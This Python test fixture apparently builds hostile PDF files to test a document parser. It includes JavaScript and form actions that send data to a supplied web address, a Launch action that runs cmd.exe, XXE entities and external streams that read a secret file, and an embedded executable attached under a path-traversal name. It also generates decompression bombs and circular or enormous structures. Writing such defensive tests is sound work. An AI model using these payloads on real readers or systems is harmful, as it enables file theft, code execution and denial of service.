"""PDFs with active content, with bombs in their streams, and with a structure that leads in circles."""

from __future__ import annotations

import zlib

from tests.hostile.making import Files

LETTERS = b"BT /F1 12 Tf 20 100 Td (The bridge was closed at noon, officials said.) Tj ET"


def active(secret: str, web: str) -> Files:
    """Papers that would run, fetch, send or open something."""
    actions = {
        "script": f"<< /S /JavaScript /JS (this.submitForm('{web}/js'); app.launchURL('{web}')) >>",
        "launch": f"<< /S /Launch /F ({secret}) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "address": f"<< /S /URI /URI ({web}/uri) >>",
        "other-file": f"<< /S /GoToR /F (file://{secret}) /D [0 /Fit] >>",
        "form": f"<< /S /SubmitForm /F ({web}/form) /Flags 4 >>",
        "import": f"<< /S /ImportData /F ({secret}) >>",
    }
    made = {f"{name}.pdf": paper(catalog=f"/OpenAction {action}") for name, action in actions.items()}
    entity = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}"><!ENTITY w SYSTEM "{web}/e">]>'
    xfa = f"{entity}<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><a>&s;&w;</a></xdp:xdp>".encode()
    made["xfa.pdf"] = paper(catalog="/AcroForm << /XFA 6 0 R >>", more=[stream("", xfa)])
    made["metadata.pdf"] = paper(catalog="/Metadata 6 0 R", more=[stream("/Type /Metadata /Subtype /XML", xfa)])
    made["external-stream.pdf"] = paper(contents=f"<< /Length 0 /F (file://{secret}) >>\nstream\n\nendstream".encode())
    made["external-picture.pdf"] = paper(more=[stream(f"/Type /XObject /F << /FS /URL /F ({web}/p) >>", b"")])
    made["attachment.pdf"] = paper(
        catalog="/Names << /EmbeddedFiles << /Names [(../../run.exe) 6 0 R] >> >>",
        more=[b"<< /Type /Filespec /F (../../run.exe) /EF << /F 7 0 R >> >>", stream("", b"MZ" + bytes(200))],
    )
    return made


def oversized() -> Files:
    """Papers that unpack to more than memory, or never end."""
    bomb = zlib.compress(bytes(100 << 20), 9)
    twice = zlib.compress(bomb, 9)
    deep = b"[" * 200_000 + b"]" * 200_000
    return {
        "bomb.pdf": paper(contents=stream("/Filter /FlateDecode", bomb)),
        "bomb-in-bomb.pdf": paper(contents=stream("/Filter [/FlateDecode /FlateDecode]", twice)),
        "run-length.pdf": paper(contents=stream("/Filter [/FlateDecode /RunLengthDecode]", _run_length(128 << 20))),
        "many-pages.pdf": paper(pages="/Kids [3 0 R] /Count 2147483647"),
        "pages-in-a-circle.pdf": paper(pages="/Kids [2 0 R] /Count 1"),
        "length-in-a-circle.pdf": paper(contents=b"<< /Length 5 0 R >>\nstream\nq Q\nendstream"),
        "deep.pdf": paper(contents=b"<< /Deep " + deep + b" /Length 3 >>\nstream\nq Q\nendstream"),
        "sections-in-a-circle.pdf": _circle(),
        "huge-number.pdf": paper(contents=b"<< /Length " + b"9" * 50_000 + b" >>\nstream\nq\nendstream"),
        "word-bomb.pdf": paper(contents=stream("/Filter /FlateDecode", zlib.compress(LETTERS * 6_000, 9))),
    }


def paper(
    *, catalog: str = "", pages: str = "/Kids [3 0 R] /Count 1", contents: bytes = b"", more: list[bytes] | None = None
) -> bytes:
    """A PDF of one page; objects 1 catalog, 2 pages, 3 page, 4 font, 5 contents, 6 and on `more`. ISO 32000-1, 7.5."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode("latin-1"),
        f"<< /Type /Pages {pages} >>".encode(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 5 0 R"
        b" /Resources << /Font << /F1 4 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        contents or stream("", LETTERS),
        *(more or []),
    ]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def stream(entries: str, data: bytes) -> bytes:
    """A stream object with its length."""
    return f"<< {entries} /Length {len(data)} >>\nstream\n".encode("latin-1") + data + b"\nendstream"


def _run_length(count: int) -> bytes:
    return zlib.compress(b"\x81\x00" * (count // 128), 9)


def _circle() -> bytes:
    made = paper()
    at = made.index(b"xref\n0")
    return made.replace(b"/Size 6 /Root 1 0 R", b"/Size 6 /Root 1 0 R /Prev %d" % at)
